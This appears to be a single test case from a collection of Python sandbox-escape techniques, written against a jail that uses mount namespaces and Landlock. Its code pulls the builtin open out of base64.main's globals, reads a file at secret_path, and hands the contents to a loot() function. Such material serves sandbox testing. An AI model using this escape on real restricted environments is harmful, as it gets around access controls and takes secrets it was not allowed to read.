# aim: read a file with the command line helper of base64
# mechanism: base64.main
# language: view
# reason: command line programs inside modules open files
# jail: mount namespace, landlock
# plain: loot

import base64
import io

found = io.BytesIO()
base64.encode(base64.main.__globals__["__builtins__"]["open"](secret_path, "rb"), found)
loot(base64.b64decode(found.getvalue()))
